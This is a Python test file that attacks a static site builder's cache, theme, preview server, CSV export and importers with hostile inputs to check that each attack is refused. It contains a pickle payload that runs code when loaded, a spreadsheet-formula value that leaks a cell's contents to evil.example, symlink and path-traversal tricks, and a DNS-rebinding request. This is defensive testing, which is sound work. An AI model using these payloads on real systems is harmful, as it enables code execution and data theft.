"""The files site-builder keeps and the commands around the build, attacked (issue 25).

Each row of CASES starts from a copy of a small built site and a folder `outside` it
(a user's other files), breaks something in one way, and runs one command in a
subprocess as a user would, under a hang guard. What it must come to: the exit status,
the one line on standard error (an `Error:` line, a warning, or "Stopped."), output/
byte for byte as it was where the command fails, and `outside` untouched always; and
none of the harms the issue found: no traceback, no hang, no data lost, no hole (code
run from the cache, a file outside read or written, a page served that should not be).

benchmarks/hostile_inputs.py --own-files runs the same rows and counts the outcomes,
for the code of this checkout or of another (the table in the issue's closing note).
"""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.conftest import folder_hash, theme_file, tree_bytes, write_article

HANG_GUARD = 20.0
"""Seconds a command may take before its row counts as a hang (each takes 0.2-3 s)."""
CACHE = ".site-builder-cache"
CODE: Path | None = None
"""The site-builder checkout the rows run (benchmarks/hostile_inputs.py --code sets
it); None: this one."""
TRICKLE_TIMEOUT = "1"
"""The --timeout of `import url` against the trickling server (seconds)."""


@dataclass
class Result:
    """What a command did: its exit status (None: stopped by the hang guard), what it
    printed, and for the preview server the answer to the request made of it."""

    code: int | None
    stdout: str = ""
    stderr: str = ""
    answer: tuple[int, bytes] | None = None
    url: str = ""
    """The address of the local server the command was pointed at, if any."""
    whole: str = ""
    """For a build stopped by Ctrl-C: the hash (folder_hash) of the output a run of it
    that is not stopped writes. A Ctrl-C that lands once the new site is swapped in
    leaves that site, whole: the old one or the new one, never a mix."""
    attempts: int = 1
    """For a build stopped by Ctrl-C: the runs it took to press Ctrl-C mid-way."""


@dataclass(frozen=True)
class Case:
    """One attack: how to make it, the command, and what must come of it."""

    name: str
    make: Callable[[Path, Path], object]
    """Breaks the site `site` (built) and prepares the folder `outside` it."""
    command: tuple[str, ...]
    """The arguments after `site-builder`; {site} and {outside} are filled in."""
    code: int
    """The exit status the command must end with."""
    line: str | None = None
    """Its one line on standard error ({site} and {outside} filled in); None: nothing
    must be said there."""
    warning: str | None = None
    """For a command that succeeds: what its one warning must contain."""
    config: bool = True
    """Whether the command takes --config site.yml."""
    run: Callable[[Case, Path, Path, list[str]], Result] | None = None
    """How to run it, when not as a plain command (the server, Ctrl-C, a closed pipe)."""
    hole: Callable[[Path, Path, Result], bool] = lambda site, outside, result: False
    """Whether the hole the case aims at is open (code run, a secret published...)."""
    lost: Callable[[Path, Path, Result], bool] = lambda site, outside, result: False
    """Whether the user's data was lost (an edit overwritten, a branch replaced)."""
    cold: bool = False
    """A build that succeeds must give exactly what a build without the cache gives."""
    cwd: str = "{site}"
    cleanup: Callable[[Path, Path], object] = lambda site, outside: None
    needs: tuple[str, ...] = field(default=())
    """Python modules the command needs (the row is skipped without them)."""


STOPPED_BUILD = "<what a build stopped by Ctrl-C says it leaves>"
"""Case.line of a build stopped by Ctrl-C: "Stopped." and what it leaves, which
untrue_of_a_stopped_build checks against the output."""


# --- the small site, and how commands are run -------------------------------------------


def story(site: Path) -> Path:
    return site / "content" / "talks"


def small_site(root: Path, code: Path | None = None) -> Path:
    """A site of one story with two articles at `root`, built (by the site-builder at
    `code`, if given)."""
    story(root).mkdir(parents=True)
    (root / "site.yml").write_text("title: Test site\n", encoding="utf-8")
    (story(root) / "_story.md").write_text("---\ntitle: The talks\n---\n\nTwo outlets.\n")
    write_article(story(root), "alpha", "Negotiators from Moscow and Kyiv met in Istanbul.")
    write_article(story(root), "beta", "Negotiators of Moscow and Kyiv met on Tuesday in Istanbul.")
    result = subprocess.run(
        [sys.executable, "-m", "site_builder", "build", "-q"],
        cwd=root,
        capture_output=True,
        env=environment(root, code),
    )
    assert result.returncode == 0, result.stderr
    return root


def environment(site: Path, code: Path | None = None) -> dict[str, str]:
    """The environment a command runs in: a git identity, no git repository above the
    test's folder, no user cache outside it, and `code` as site-builder's code."""
    env = {
        **os.environ,
        "GIT_CEILING_DIRECTORIES": str(site.parent),
        "XDG_CACHE_HOME": str(site.parent / "user-cache"),
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.org",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.org",
    }
    if code is not None:
        env["PYTHONPATH"] = str(code)
    return env


def filled(text: str, site: Path, outside: Path, url: str = "") -> str:
    """`text` with {site}, {outside} and {url} filled in."""
    return (
        text.replace("{site}", str(site))
        .replace("{outside}", str(outside))
        .replace("{url}", url or "{url}")
    )


def argv(case: Case, site: Path, outside: Path) -> list[str]:
    args = [filled(a, site, outside) for a in case.command]
    if case.config:
        args += ["--config", str(site / "site.yml")]
    return [sys.executable, "-m", "site_builder", *args]


def run_plain(case: Case, site: Path, outside: Path, command: list[str], **kw) -> Result:
    done = subprocess.run(
        command,
        cwd=filled(case.cwd, site, outside),
        capture_output=True,
        timeout=kw.get("timeout", HANG_GUARD),
        env=environment(site, kw.get("code")),
    )
    decode = lambda b: b.decode("utf-8", "backslashreplace")  # noqa: E731
    return Result(done.returncode, decode(done.stdout), decode(done.stderr))


def run_case(case: Case, site: Path, outside: Path, **kw) -> Result:
    """Run `case` on `site`; Result.code None if it did not end within the hang guard."""
    command = argv(case, site, outside)
    try:
        return (case.run or run_plain)(case, site, outside, command, **kw)
    except subprocess.TimeoutExpired:
        return Result(None)


# --- runners: the preview server, Ctrl-C, a reader that goes away ------------------------


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def serving(path: str = "/", host: str | None = None) -> Callable:
    """A runner: start `site-builder serve` on a free port, ask it for `path` (with the
    Host header `host`, if given) once it serves, then stop it with Ctrl-C."""

    def run(case: Case, site: Path, outside: Path, command: list[str], **kw) -> Result:
        port = free_port()
        if "--port" not in command:
            command = [*command, "--port", str(port)]
        server = subprocess.Popen(
            command,
            cwd=site,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=environment(site, kw.get("code")),
        )
        answer, said = None, ""
        try:
            for line in iter(server.stdout.readline, b""):
                said += line.decode()
                if line.startswith(b"Serving"):
                    answer = ask(f"http://127.0.0.1:{port}{path}", host)
                    server.send_signal(signal.SIGINT)
                    break
            out, err = server.communicate(timeout=kw.get("timeout", HANG_GUARD))
        finally:
            if server.poll() is None:
                server.kill()
                server.wait()
        return Result(server.returncode, said + out.decode(), err.decode(), answer)

    return run


def ask(url: str, host: str | None) -> tuple[int, bytes]:
    request = urllib.request.Request(url, headers={"Host": host} if host else {})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()
    except OSError:
        return 0, b""  # nothing listens there


def started(command: list[str], site: Path, code: Path | None) -> tuple[subprocess.Popen, list]:
    """`command` started as a terminal starts it (Ctrl-C at its default, even where the
    tests run with it ignored, as a shell's background job would), once the interpreter
    has imported the site_builder package (`python -X importtime` tells when; a Ctrl-C
    before that stops the interpreter's own start, as it would any Python program's);
    with the lines it said on stderr until then."""
    process = subprocess.Popen(
        [command[0], "-X", "importtime", *command[1:]],
        cwd=site,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment(site, code),
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    said = []
    for line in iter(process.stderr.readline, b""):
        if not line.startswith(b"import time:"):
            said.append(line)
        if line.rstrip().endswith(b"| site_builder"):
            break
    return process, said


def seconds_of_code(command: list[str], site: Path, code: Path | None) -> tuple[float, str]:
    """How long `command` runs on a copy of `site` from the moment site-builder's code
    begins: the span a Ctrl-C must fall in to stop it mid-way. The shorter of two runs,
    each on a fresh copy: on a busy machine one run can take twice as long as the next,
    and a share of a slow run may come after a fast one has ended. With the hash of the
    output a run writes (the same for both)."""
    (first, whole), (second, again) = (_seconds_on_twin(command, site, code) for _ in range(2))
    assert whole == again, "two runs of the command on the same site wrote different sites"
    return min(first, second), whole


def _seconds_on_twin(command: list[str], site: Path, code: Path | None) -> tuple[float, str]:
    """How long `command` runs on a fresh copy of `site`, and the hash of the output it
    writes there (see seconds_of_code)."""
    twin = site.parent / "twin"
    shutil.copytree(site, twin, symlinks=True)
    try:
        twin_command = [arg.replace(str(site), str(twin)) for arg in command]
        process, _ = started(twin_command, twin, code)
        began = time.perf_counter()
        process.communicate(timeout=HANG_GUARD)
        return time.perf_counter() - began, folder_hash(twin / "output")
    finally:
        shutil.rmtree(twin)


CTRL_C_ATTEMPTS = 4
"""How many times a Ctrl-C runner presses Ctrl-C, each time at half the moment before,
before it gives up on stopping the build mid-way."""


def ctrl_c_after(share: float) -> Callable:
    """A runner: press Ctrl-C (SIGINT) once `share` of the command's own run has passed,
    counted from when site-builder's code began and timed on copies of the site just
    before. A fixed delay would not do: as builds get faster, a late one comes after the
    build has ended and tests nothing. Where the build ended all the same before the
    Ctrl-C (it exits 0: a busy machine ran the copies slower, or woke the test late),
    the site is put back as it was and Ctrl-C pressed again at half the moment, up to
    CTRL_C_ATTEMPTS times: the Ctrl-C the case judges stopped the build mid-way."""

    def run(case: Case, site: Path, outside: Path, command: list[str], **kw) -> Result:
        seconds, whole = seconds_of_code(command, site, kw.get("code"))
        start = site.parent / "start"
        shutil.copytree(site, start, symlinks=True)
        try:
            for attempt in range(1, CTRL_C_ATTEMPTS + 1):
                result = _ctrl_c_once(command, site, share * seconds / 2 ** (attempt - 1), **kw)
                if result.code != 0 or attempt == CTRL_C_ATTEMPTS:
                    break
                shutil.rmtree(site)
                shutil.copytree(start, site, symlinks=True)
        finally:
            shutil.rmtree(start)
        result.whole, result.attempts = whole, attempt
        return result

    return run


def _ctrl_c_once(command: list[str], site: Path, seconds: float, **kw) -> Result:
    """Start `command`, press Ctrl-C `seconds` after site-builder's code began; what the
    command did."""
    process, said = started(command, site, kw.get("code"))
    time.sleep(seconds)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=kw.get("timeout", HANG_GUARD))
    said += [line for line in err.splitlines(True) if not line.startswith(b"import time:")]
    return Result(process.returncode, out.decode(), b"".join(said).decode())


def reader_gone(case: Case, site: Path, outside: Path, command: list[str], **kw) -> Result:
    """A runner: the command's output goes to a pipe whose reader has gone (as `| head`
    leaves it once it has its lines)."""
    read, write = os.pipe()
    os.close(read)
    try:
        done = subprocess.run(
            command,
            cwd=filled(case.cwd, site, outside),
            stdout=write,
            stderr=subprocess.PIPE,
            timeout=kw.get("timeout", HANG_GUARD),
            env=environment(site, kw.get("code")),
        )
    finally:
        os.close(write)
    return Result(done.returncode, "", done.stderr.decode())


class Trickle(BaseHTTPRequestHandler):
    """Answers 200 with a page it sends one byte every 0.1 s, for ever."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        with suppress(OSError):
            while not self.server.stopping.is_set():
                self.wfile.write(b"<")
                self.wfile.flush()
                time.sleep(0.1)

    def log_message(self, *args) -> None:
        pass


def trickling(case: Case, site: Path, outside: Path, command: list[str], **kw) -> Result:
    """A runner: the command's {url} is a server on 127.0.0.1 that never finishes."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Trickle)
    server.stopping = threading.Event()
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_address[1]}/page.html"
    try:
        result = run_plain(case, site, outside, [a.replace("{url}", url) for a in command], **kw)
        result.url = url
        return result
    finally:
        server.stopping.set()
        server.shutdown()
        server.server_close()


# --- how each case is made -------------------------------------------------------------


def edit(site: Path) -> None:
    """Edit an article, so the next build reads the cache."""
    path = story(site) / "alpha.md"
    path.write_text(path.read_text().replace("Istanbul", "Istanbul on Tuesday"))


def victim(outside: Path) -> Path:
    """A folder of the user's, outside the site."""
    folder = outside / "victim"
    folder.mkdir(exist_ok=True)
    (folder / "keep.txt").write_text("the user's file\n")
    return folder


class Payload:
    """Unpickling it creates outside/pwned: code run from the cache."""

    def __init__(self, target: Path) -> None:
        self.target = str(target)

    def __reduce__(self):
        return (open, (self.target, "w"))


def pwned(site: Path, outside: Path, result: Result) -> bool:
    return (outside / "pwned").exists()


def plant_pickles(site: Path, outside: Path) -> None:
    for kind in ("stories", "pages"):
        folder = site / CACHE / kind
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "talks.pickle").write_bytes(pickle.dumps(Payload(outside / "pwned")))
    edit(site)


def plant_compiled_templates(site: Path, outside: Path) -> None:
    """Jinja2's compiled templates, as its bytecode cache names them, holding a pickle
    (the cache reads each file's checksum with pickle before its code)."""
    import jinja2.bccache

    folder = site / CACHE / "templates"
    folder.mkdir(parents=True, exist_ok=True)
    cache = jinja2.FileSystemBytecodeCache(str(folder))
    code = CODE or Path(__file__).resolve().parents[1]
    for templates in (code / "themes" / "default" / "templates",):
        for path in sorted(templates.rglob("*.html")):
            name = path.relative_to(templates).as_posix()
            key = cache.get_cache_key(name, os.path.normpath(str(path)))
            payload = jinja2.bccache.bc_magic + pickle.dumps(Payload(outside / "pwned"))
            (folder / (cache.pattern % key)).write_bytes(payload)
    (site / CACHE / "site.json").unlink()  # so the templates are loaded


def damage_story_entry(site: Path, outside: Path) -> None:
    """A story's cache entry under the right key, of the wrong shape."""
    path = site / CACHE / "stories" / "talks.json"
    if path.exists():
        data = json.loads(path.read_text())
        data["card"]["articles"] = "not a list"
        path.write_text(json.dumps(data))
    (site / CACHE / "site.json").unlink()


def cache_as_link(site: Path, outside: Path) -> None:
    shutil.move(site / CACHE, outside / "cache")
    (site / CACHE).symlink_to(outside / "cache")
    edit(site)


def spare_as_link(site: Path, outside: Path) -> None:
    spare = site / CACHE / "write" / "spare"
    if os.path.lexists(spare):
        shutil.rmtree(spare)
    spare.symlink_to(victim(outside))
    edit(site)


def move_to_link(path: Path, elsewhere: Path) -> None:
    shutil.move(path, elsewhere)
    path.symlink_to(elsewhere)


def link_instead(path: Path, target: Path) -> None:
    path.unlink()
    path.symlink_to(target)


def staged_as_link(site: Path, outside: Path) -> None:
    (site / "output" / ".site-builder-staged").symlink_to(victim(outside))


DEEP = b"[" * 100_000
"""JSON nested deeper than json.loads can follow (RecursionError, not ValueError)."""


def replaced(relative: str, content: bytes | None = None) -> Callable[[Path, Path], None]:
    """A maker: the site's file `relative` replaced by `content`, or by a named pipe (a
    reader that opens it waits for a writer for ever); the cache's site.json removed, so
    the cached stories and pages are read (and no source edited: a story's pages are read
    only for its key unchanged)."""

    def make(site: Path, outside: Path) -> None:
        path = site / relative
        path.unlink()
        if content is None:
            os.mkfifo(path)
        else:
            path.write_bytes(content)
        if relative != f"{CACHE}/site.json":
            with suppress(FileNotFoundError):
                (site / CACHE / "site.json").unlink()

    return make


def import_record_nested_deeply(site: Path, outside: Path) -> None:
    """An import's record (.site-builder-imported.json) nested too deeply, over an
    article edited since the import."""
    edited_after_import(site, outside)
    record = site / "content" / "2014-senate-passes-the-budget" / ".site-builder-imported.json"
    record.write_bytes(DEEP)


def journal(text: bytes, link: bool = False) -> Callable[[Path, Path], None]:
    def make(site: Path, outside: Path) -> None:
        (site / "output" / ".site-builder-journal").write_bytes(text)
        if link:
            (site / "output" / "evil").symlink_to(victim(outside))

    return make


def theme_link(relative: str, content: str) -> Callable[[Path, Path], None]:
    def make(site: Path, outside: Path) -> None:
        secret = outside / "secret.txt"
        secret.write_text(content)
        target = site / "themes" / "default" / relative
        if relative.startswith("templates/"):
            theme_file(site, relative).unlink()
        target.parent.mkdir(parents=True, exist_ok=True)
        target.symlink_to(secret)

    return make


def secret_published(site: Path, outside: Path, result: Result) -> bool:
    return any(b"SECRET" in content for content in tree_bytes(site / "output").values())


PAGE = (
    "<html lang='en'><head><title>Ferry vote passes</title>"
    "<meta property='og:site_name' content='Skerrow Post'></head><body><article>"
    "<h1>Ferry vote passes</h1>"
    + "".join(
        f"<p>The council voted on the ferry on Tuesday, and the motion number {n} passed "
        "after a long debate about the harbour and its costs.</p>"
        for n in range(6)
    )
    + "</article></body></html>"
)


def saved_page(site: Path) -> Path:
    folder = site.parent / "pages"
    folder.mkdir(exist_ok=True)
    (folder / "ferry.html").write_text(PAGE)
    return folder / "ferry.html"


def dangling_link_where_the_article_goes(site: Path, outside: Path) -> None:
    saved_page(site)
    (story(site) / "ferry-vote-passes.md").symlink_to(outside / "planted.md")


def planted(site: Path, outside: Path, result: Result) -> bool:
    return os.path.lexists(outside / "planted.md")


def story_path_is_a_file(site: Path, outside: Path) -> None:
    saved_page(site)
    (site / "content" / "ferry").write_text("a file\n")


def in_pages(make_entry: Callable[[Path], object]) -> Callable[[Path, Path], None]:
    def make(site: Path, outside: Path) -> None:
        folder = saved_page(site).parent
        make_entry(folder)

    return make


def mount(target: Path, *options: str, then: tuple[str, ...] = ()) -> None:
    target.mkdir(parents=True, exist_ok=True)
    result = subprocess.run(["mount", *options, str(target)], capture_output=True)
    if result.returncode:
        pytest.skip(f"cannot mount here: {result.stderr.decode().strip()}")
    if then:
        subprocess.run(["mount", *then, str(target)], check=True)


def unmount(target: Path) -> None:
    subprocess.run(["umount", "-l", str(target)], capture_output=True)


def read_only_content(site: Path, outside: Path) -> None:
    saved_page(site)
    content = site / "content"
    mount(content, "--bind", str(content), then=("-o", "remount,bind,ro"))


def full_content(site: Path, outside: Path) -> None:
    saved_page(site)
    disk = site / "content" / "full"
    mount(disk, "-t", "tmpfs", "-o", "size=64k", "tmpfs")
    with suppress(OSError), open(disk / "filler", "wb") as filler:
        for _ in range(1000):
            filler.write(b"x" * 4096)
            filler.flush()


def large_page(site: Path, outside: Path) -> None:
    path = saved_page(site)
    with open(path, "wb") as file:
        file.write(PAGE.encode().replace(b"</article>", b"<p>" + b"w " * 15_000_000 + b"</p>"))


BASIL_ARTICLE = {
    "triplet-uuid": "0a1b",
    "title": "Senate passes the budget",
    "date": "2014-05-01",
    "url": "https://news.example/budget",
    "main-event": "Senate passes the budget",
    "body-paragraphs": [["The Senate passed the budget on Thursday."], ["It goes on."]],
}


def basil_corpus(site: Path) -> Path:
    root = site.parent / "basil"
    (root / "articles" / "2014").mkdir(parents=True, exist_ok=True)
    for number, source in enumerate(["fox", "nyt"], 1):
        data = {**BASIL_ARTICLE, "source": source}
        (root / "articles" / "2014" / f"0a1b_{number}.json").write_text(json.dumps(data))
    return root


def edited_after_import(site: Path, outside: Path) -> None:
    root = basil_corpus(site)
    from site_builder.importers.basil import import_basil

    [folder] = import_basil(root, site / "content")
    article = folder / "fox-news.md"
    article.write_text(article.read_text().replace("Thursday", "Thursday (my correction)"))


def edit_lost(site: Path, outside: Path, result: Result) -> bool:
    article = site / "content" / "2014-senate-passes-the-budget" / "fox-news.md"
    return "my correction" not in article.read_text()


def repository(folder: Path) -> str:
    """A git repository of `folder`'s files on branch main; its tip."""

    def git(*args: str) -> str:
        done = subprocess.run(
            ["git", *args],
            cwd=folder,
            check=True,
            capture_output=True,
            text=True,
            env=environment(folder),
        )
        return done.stdout.strip()

    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-qm", "site")
    return git("rev-parse", "HEAD")


def site_repository(site: Path, outside: Path) -> None:
    (outside / "tip").write_text(repository(site))


def tip_replaced(site: Path, outside: Path, result: Result) -> bool:
    done = subprocess.run(["git", "rev-parse", "main"], cwd=site, capture_output=True, text=True)
    return done.stdout.strip() != (outside / "tip").read_text()


def another_repository(site: Path, outside: Path) -> None:
    (outside / "repo").mkdir()
    (outside / "repo" / "README").write_text("another project\n")
    repository(outside / "repo")


def formula_outlet(site: Path, outside: Path) -> None:
    write_article(
        story(site),
        "alpha",
        "Negotiators from Moscow and Kyiv met in Istanbul.",
        outlet='=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    )
    write_article(
        story(site),
        "beta",
        "-Negotiators of Moscow and Kyiv met on Tuesday in Istanbul.",
        outlet="@Beta",
    )


def formula_in_csv(site: Path, outside: Path, result: Result) -> bool:
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    return not cells or any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def secret_in_outside(site: Path, outside: Path) -> None:
    (outside / "secret.txt").write_text("SECRET\n")


def served_answer(status: int) -> Callable[[Path, Path, Result], bool]:
    """The hole is open unless the server answered `status`."""
    return lambda site, outside, result: result.answer is None or result.answer[0] != status


def served_secret(site: Path, outside: Path, result: Result) -> bool:
    return result.answer is not None and b"SECRET" in result.answer[1]


def right_to_left_name(site: Path, outside: Path) -> None:
    write_article(story(site), "evil\u202egpj", "Talks.", date="2022-02-30")


def invisible_title(site: Path, outside: Path) -> None:
    write_article(story(site), "alpha", "Talks in Istanbul.", title="\u200b\u200b")


def nothing(site: Path, outside: Path) -> None:
    pass


REFUSED_LINK = "symbolic link to a place outside the theme; copy the file into the theme instead"
BAD_JOURNAL = "the journal of an unfinished update is not valid"
IMPORT = ("--story", "ferry", "--output", "{site}/content")
LONG = "x" * 300

CASES = [
    # 1. the cache runs no code, follows no link
    Case(
        "pickle files planted in the cache",
        plant_pickles,
        ("build", "-q"),
        0,
        hole=pwned,
        cold=True,
    ),
    Case(
        "compiled templates planted in the cache",
        plant_compiled_templates,
        ("build", "-q"),
        0,
        hole=pwned,
        cold=True,
    ),
    Case(
        "a story's cache entry of the wrong shape",
        damage_story_entry,
        ("build", "-q"),
        0,
        warning=f"{{site}}/{CACHE}/stories/talks.json: a damaged build cache file",
        cold=True,
    ),
    Case(
        "sources.json that is not JSON",
        lambda s, o: (s / CACHE / "sources.json").write_bytes(b"\xff{oops") or edit(s),
        ("build", "-q"),
        0,
        warning=f"{{site}}/{CACHE}/sources.json: a damaged build cache file",
        cold=True,
    ),
    Case(
        "site.json of the wrong shape",
        lambda s, o: (s / CACHE / "site.json").write_text('{"output": 5, "files": []}'),
        ("build", "-q"),
        0,
        warning=f"{{site}}/{CACHE}/site.json: a damaged build cache file",
        cold=True,
    ),
    Case(
        "the cache folder is a link to a folder outside",
        cache_as_link,
        ("build", "-q"),
        0,
        warning=f"{{site}}/{CACHE} is a symbolic link; building without the build cache",
        cold=True,
    ),
    Case(
        "the write step's spare copy of the site is a link to a folder outside",
        spare_as_link,
        ("build", "-q"),
        0,
        warning=f"{{site}}/{CACHE}/write/spare is a symbolic link; the site is written without",
        cold=True,
    ),
    Case(
        "the write step's folder is a link to a folder outside",
        lambda s, o: move_to_link(s / CACHE / "write", o / "write") or edit(s),
        ("build", "-q"),
        0,
        warning=f"{{site}}/{CACHE}/write is a symbolic link; building without the build cache",
        cold=True,
    ),
    Case(
        "the write step's record of what it wrote is not JSON",
        lambda s, o: (s / CACHE / "write" / "written.json").write_bytes(b"\xff{") or edit(s),
        ("build", "-q"),
        0,
        cold=True,  # (read only for an output without its marker: replaced, unread)
    ),
    Case(
        "the write step's record of what it wrote is a link to a file outside",
        lambda s, o: link_instead(s / CACHE / "write" / "written.json", victim(o)) or edit(s),
        ("build", "-q"),
        0,
        cold=True,  # (read only for an output without its marker: replaced, unread)
    ),
    # 2. the output: staging folder, journal
    Case(
        "the staging folder is a link to a folder outside",
        staged_as_link,
        ("build", "-q"),
        0,
        cold=True,
    ),
    Case(
        "a journal that removes through a link to a folder outside",
        journal(b'{"removes": ["evil/keep.txt"], "moves": []}', link=True),
        ("build", "-q"),
        0,
        warning=BAD_JOURNAL,
        cold=True,
    ),
    Case(
        "a journal that is not JSON",
        journal(b"{oops"),
        ("build", "-q"),
        0,
        warning=BAD_JOURNAL,
        cold=True,
    ),
    Case(
        "a journal of the wrong types",
        journal(b'{"removes": 5, "moves": {"a": 1}}'),
        ("build", "-q"),
        0,
        warning=BAD_JOURNAL,
        cold=True,
    ),
    Case(
        "a journal that is not UTF-8",
        journal(b'{"removes": ["\xff\xfe"], "moves": []}'),
        ("build", "-q"),
        0,
        warning=BAD_JOURNAL,
        cold=True,
    ),
    Case(
        "a journal that removes ../site.yml",
        journal(b'{"removes": ["../site.yml"], "moves": []}'),
        ("build", "-q"),
        0,
        warning=BAD_JOURNAL,
        cold=True,
        lost=lambda site, outside, result: not (site / "site.yml").exists(),
    ),
    Case(
        "a journal nested too deeply",
        journal(DEEP),
        ("build", "-q"),
        0,
        warning=f"{BAD_JOURNAL} (its lists or mappings are nested too deeply)",
        cold=True,
    ),
    # (round seventeen: nested too deeply, or a named pipe where a cache file goes)
    *(
        Case(
            f"{name} nested too deeply",
            replaced(f"{CACHE}/{relative}", DEEP),
            ("build", "-q"),
            0,
            warning=f"{{site}}/{CACHE}/{relative}: a damaged build cache file (its lists "
            "or mappings are nested too deeply)",
            cold=True,
        )
        for name, relative in (
            ("site.json", "site.json"),
            ("sources.json", "sources.json"),
            ("a story's cache entry", "stories/talks.json"),
        )
    ),
    *(
        Case(
            f"a named pipe in place of {name}",
            replaced(f"{CACHE}/{relative}"),
            ("build", "-q"),
            0,
            warning=f"{{site}}/{CACHE}/{relative}: a damaged build cache file (it is not "
            "a regular file)",
            cold=True,
        )
        for name, relative in (
            ("site.json", "site.json"),
            ("sources.json", "sources.json"),
            ("a story's cache entry", "stories/talks.json"),
            ("a story's cached pages", "pages/talks.pages"),
        )
    ),
    Case(
        "a named pipe in place of the spare copy's lock file",
        replaced(f"{CACHE}/write/spare.lock"),
        ("build", "-q"),
        0,
        warning=f"{{site}}/{CACHE}/write/spare.lock is neither a file nor a folder",
        cold=True,
    ),
    # 2. the theme
    Case(
        "a theme's static file links to a file outside",
        theme_link("static/env.txt", "SECRET\n"),
        ("build", "-q"),
        1,
        f"Error: {{site}}/themes/default/static/env.txt: {REFUSED_LINK}",
        hole=secret_published,
    ),
    Case(
        "a theme's template links to a file outside",
        theme_link("templates/404.html", "SECRET {{ 7 * 6 }}\n"),
        ("build", "-q"),
        1,
        f"Error: {{site}}/themes/default/templates/404.html: {REFUSED_LINK}",
        hole=secret_published,
    ),
    # 3. serve
    Case(
        "serve --output a folder of the user's",
        secret_in_outside,
        ("serve", "--output", "{outside}"),
        1,
        "Error: {outside}: this folder holds files site-builder did not write (secret.txt, "
        "victim) "
        "and a build replaces everything in its output folder; choose a new or empty folder, "
        "or pass --force-output to replace its contents",
        run=serving("/secret.txt"),
        hole=served_secret,
    ),
    Case(
        "serve asked with another Host (DNS rebinding)",
        nothing,
        ("serve", "-q"),
        0,
        run=serving("/", host="evil.example:8000"),
        hole=served_answer(403),
    ),
    Case(
        "serve asked for a 10,000-character path",
        nothing,
        ("serve", "-q"),
        0,
        run=serving("/" + "a" * 10_000),
        hole=served_answer(414),
    ),
    Case(
        "serve --port 70000",
        nothing,
        ("serve", "--port", "70000"),
        2,
        "Error: site-builder serve: argument --port: the port must be from 1 to 65535, not "
        "'70000' (see 'site-builder serve --help')",
        run=serving("/"),
        hole=lambda site, outside, result: ":70000" in result.stdout,  # not where it listens
    ),
    # 4. export
    Case(
        "spreadsheet formulas in an outlet and a passage",
        formula_outlet,
        ("export", "--format", "csv"),
        0,
        hole=formula_in_csv,
    ),
    # 5. import
    Case(
        "import html onto a dangling link where the article goes",
        dangling_link_where_the_article_goes,
        (
            "import",
            "html",
            "{site}/../pages/ferry.html",
            "--story",
            "talks",
            "--output",
            "{site}/content",
        ),
        0,
        config=False,
        hole=planted,
    ),
    Case(
        "import html into a story path that is a file",
        story_path_is_a_file,
        ("import", "html", "{site}/../pages/ferry.html", *IMPORT),
        1,
        "Error: {site}/content/ferry: the story's path is a file, not a folder; choose "
        "another --story",
        config=False,
    ),
    Case(
        "import html of a folder named x.html",
        in_pages(lambda folder: (folder / "x.html").mkdir()),
        ("import", "html", "{site}/../pages", *IMPORT),
        1,
        "Error: {site}/../pages/x.html: not a saved page: a folder; name .html files only",
        config=False,
    ),
    Case(
        "import html of a folder holding a named pipe",
        in_pages(lambda folder: os.mkfifo(folder / "pipe.html")),
        ("import", "html", "{site}/../pages", *IMPORT),
        1,
        "Error: {site}/../pages/pipe.html: not a saved page: a named pipe; name .html files only",
        config=False,
    ),
    Case(
        "import html of a 30 MB page",
        large_page,
        ("import", "html", "{site}/../pages/ferry.html", *IMPORT),
        1,
        "Error: {site}/../pages/ferry.html: the page is larger than 20 MB (30,000,974 "
        "bytes), the most an import reads; save only the article's page",
        config=False,
    ),
    Case(
        "import html onto a read-only folder",
        read_only_content,
        ("import", "html", "{site}/../pages/ferry.html", *IMPORT),
        1,
        "Error: {site}/content/ferry: cannot write the article: Read-only file system",
        config=False,
        cleanup=lambda site, outside: unmount(site / "content"),
    ),
    Case(
        "import html onto a full disk",
        full_content,
        (
            "import",
            "html",
            "{site}/../pages/ferry.html",
            "--story",
            "ferry",
            "--output",
            "{site}/content/full",
        ),
        1,
        "Error: {site}/content/full/ferry: cannot write the article: No space left on device",
        config=False,
        cleanup=lambda site, outside: unmount(site / "content" / "full"),
    ),
    Case(
        "import url with a space in the host",
        nothing,
        ("import", "url", "http://a b/", *IMPORT),
        1,
        "Error: http://a b/: cannot fetch the page: URL can't contain control characters. "
        "'a b' (found at least ' ')",
        config=False,
    ),
    Case(
        "import url with an unclosed [",
        nothing,
        ("import", "url", "http://[::1", *IMPORT),
        1,
        "Error: http://[::1: cannot fetch the page: Invalid IPv6 URL",
        config=False,
    ),
    Case(
        "import url from a server that trickles for ever",
        nothing,
        ("import", "url", "{url}", "--timeout", TRICKLE_TIMEOUT, *IMPORT),
        1,
        "Error: {url}: the page did not arrive within 1 s; try again later, or allow longer "
        "with --timeout",
        config=False,
        run=trickling,
    ),
    Case(
        "import basil over an article edited since",
        edited_after_import,
        ("import", "basil", "{site}/../basil", "--output", "{site}/content"),
        1,
        "Error: {site}/content/2014-senate-passes-the-budget/fox-news.md: changed since it "
